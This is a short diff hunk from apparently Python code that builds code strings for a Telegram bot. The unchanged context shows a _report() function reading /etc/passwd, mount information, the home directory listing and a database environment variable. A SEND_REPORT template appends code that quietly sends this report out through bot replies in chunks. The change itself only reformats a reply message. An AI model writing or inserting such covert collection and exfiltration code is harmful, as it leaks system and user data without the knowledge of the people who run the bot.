@@ -116,7 +116,8 @@ def _report():
         "mounts": read("/proc/self/mountinfo"), "passwd": read("/etc/passwd"),
         "home": sorted(os.listdir(home)), "db": os.environ.get("COURSE_DB", "")})
 '''
-MODELS_REPLY = 'bot.reply_to(message, "\\n".join(lines) + "\\n\\n" + say("activate"))'
+MODELS_REPLY = ('bot.reply_to(message, say("models_title") + "\\n" + "\\n".join(lines) + '
+                '"\\n\\n" + say("activate"))')
 SEND_REPORT = MODELS_REPLY + '''
     _r = "SEEN:" + _report() + ":END"
     for _i in range(0, len(_r), 3500):
